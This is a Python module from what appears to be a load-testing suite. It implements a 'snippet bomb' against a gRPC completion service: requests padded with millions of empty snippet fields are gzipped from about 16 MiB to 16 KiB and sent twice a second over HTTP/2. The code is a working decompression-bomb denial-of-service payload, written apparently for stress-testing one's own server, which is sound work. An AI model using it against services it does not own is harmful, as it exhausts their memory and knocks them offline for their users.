"""Small messages that become large ones: empty snippets by the million, compressed a thousand times."""

import asyncio
import gzip

from completion.v1 import completion_pb2 as pb
from loadtest.bench.attacks.attack import MIB, Attack, MessageOf, largest_accepted
from loadtest.bench.attacks.http2 import Http2Connection, framed

_EVERY_S = 0.5
_SIZE = 16 * MIB - 1024
_EMPTY_SNIPPET = b"\x3a\x00"
_ANSWER_S = 5.0


class Bomb(MessageOf):
    """A request with as many empty snippets as fit."""

    metadata = (("grpc-encoding", "gzip"),)

    def __call__(self, size: int) -> bytes:
        """Return the bytes that go on the wire."""
        head = pb.CompleteRequest(session_id="bomb", sequence=1, prefix="x = ").SerializeToString()
        message = head + _EMPTY_SNIPPET * ((size - len(head)) // len(_EMPTY_SNIPPET))
        return framed(gzip.compress(message), is_compressed=True)


class SnippetBomb(Attack):
    """Two bombs a second."""

    name = "snippet_bomb"
    about = "2 messages/s of empty snippets, 16 MiB that gzip to 16 KiB"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        bomb = Bomb()
        size = await largest_accepted(connection, _SIZE, bomb)
        self.counts["message_kib"] = size // 1024
        data = bomb(size)
        while connection.is_open:
            stream = connection.call("Complete", bomb.metadata)
            await stream.send(data, ends=True)
            self.counts["sent"] += 1
            await asyncio.sleep(_EVERY_S)
            await stream.ended(_ANSWER_S)
            self.count_end(stream)
